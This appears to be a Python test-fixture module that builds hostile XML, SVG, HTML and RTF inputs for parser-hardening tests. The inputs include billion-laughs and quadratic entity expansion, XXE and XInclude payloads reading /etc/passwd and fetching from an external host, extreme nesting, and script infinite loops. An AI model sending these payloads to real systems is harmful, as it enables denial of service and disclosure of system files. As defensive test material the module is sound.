"""Markup that hurts: entities that multiply or fetch, nests without end."""

from tests.hostile.draw.packed import MIB, SECRET

LAUGHS = "".join('<!ENTITY l%d "%s">' % (n, f"&l{n - 1};" * 10) for n in range(1, 12))
BILLION = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'
FETCHING = (
    '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;'
    '<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://192.0.2.1/h">]>'
)
DECLARED = '<?xml version="1.0" encoding="UTF-8"?>'


def xml_billion_laughs() -> bytes:
    return f"{DECLARED}{BILLION}<x>{SECRET} &l11;</x>".encode()


def xml_quadratic() -> bytes:
    long, often = "a" * 100_000, "&a;" * 50_000
    return f'{DECLARED}<!DOCTYPE x [<!ENTITY a "{long}">]><x>{SECRET}{often}</x>'.encode()


def xml_that_reads_a_file() -> bytes:
    return f"{DECLARED}{FETCHING}<x>{SECRET} &f; &h;</x>".encode()


def xml_that_includes_a_file() -> bytes:
    include = '<xi:include href="file:///etc/passwd" parse="text"/>'
    return f'{DECLARED}<x xmlns:xi="http://www.w3.org/2001/XInclude">{SECRET}{include}</x>'.encode()


def xml_nested() -> bytes:
    return DECLARED.encode() + b"<a>" * 300_000 + SECRET.encode() + b"</a>" * 300_000


def xml_of_very_many_attributes() -> bytes:
    attributes = " ".join(f'a{n}="{n}"' for n in range(300_000))
    return f"{DECLARED}<a {attributes}>{SECRET}</a>".encode()


def svg_billion_laughs() -> bytes:
    return f'{DECLARED}{BILLION}<svg xmlns="http://www.w3.org/2000/svg"><text>{SECRET} &l11;</text></svg>'.encode()


def svg_that_fetches() -> bytes:
    body = '<image href="http://192.0.2.1/x.png"/><script>while(1);</script><use href="#a" id="a"/>'
    return f'{DECLARED}{FETCHING}<svg xmlns="http://www.w3.org/2000/svg">{body}&f;</svg>'.encode()


def html_nested() -> bytes:
    return b"<!DOCTYPE html><html><body>" + b"<div>" * 200_000 + SECRET.encode()


def html_of_nested_tables() -> bytes:
    return b"<!DOCTYPE html><html><body>" + b"<table><tr><td>" * 30_000 + SECRET.encode()


def html_of_one_long_line() -> bytes:
    return b"<html><body><p>" + (SECRET.encode() + b" ") * (20 * MIB // 40) + b"</p></body></html>"


def html_of_very_many_attributes() -> bytes:
    return b"<html><body " + b" ".join(b"a%d=1" % n for n in range(300_000)) + b"><p>" + SECRET.encode()


def html_that_fetches() -> bytes:
    body = '<img src="http://192.0.2.1/x.png"><iframe src="file:///etc/passwd"></iframe><script>while(1);</script>'
    return f'<html><base href="http://192.0.2.1/"><meta http-equiv="refresh" content="0">{body}<p>{SECRET}'.encode()


def html_of_unclosed_comments() -> bytes:
    return b"<html>" + b"<!--<![CDATA[<script>" * 200_000 + SECRET.encode()


def rtf_nested() -> bytes:
    return rb"{\rtf1\ansi " + b"{" * 200_000 + SECRET.encode() + b"}" * 200_000 + b"}"


def rtf_that_claims_binary() -> bytes:
    return rb"{\rtf1\ansi " + SECRET.encode() + rb"{\pict\bin2147483647 x}{\object\objdata " + b"00" * MIB + b"}}"


def rtf_of_very_many_words() -> bytes:
    return rb"{\rtf1\ansi " + rb"\u-10179\'3f\b0\par " * 100_000 + SECRET.encode() + b"}"


ALL = [draw for name, draw in sorted(globals().items()) if name.split("_")[0] in {"xml", "svg", "html", "rtf"}]
